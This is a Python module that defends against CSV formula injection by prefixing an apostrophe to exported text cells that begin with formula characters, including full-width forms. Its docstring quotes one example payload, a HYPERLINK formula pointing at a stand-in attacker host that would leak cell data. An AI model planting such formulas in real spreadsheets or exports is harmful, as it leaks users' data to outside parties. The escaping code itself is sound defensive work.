"""Cells that are safe to open in a spreadsheet: every export (dashboard CSV, `python -m metrics show --format
csv`, a later Excel or slide export) writes its cells through `safe_cell`.

Excel, LibreOffice and Google Sheets run a cell that starts like a formula (`=`, `+`, `-`, `@`, or a tab or
carriage return before one) when a CSV is opened: an org unit, community or title named
`=HYPERLINK("http://evil.example/?"&A1,"details")` would send data away on a click. A leading apostrophe
keeps such a text a text (OWASP, "CSV Injection"). Numbers, dates and booleans are written as they are:
a genuine negative number stays a number; only texts are changed.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

# The ASCII starts OWASP lists, and their full-width forms, which some spreadsheet programs read as the same.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> Any:
    """A text that would start a formula, with a leading apostrophe; every other value unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]
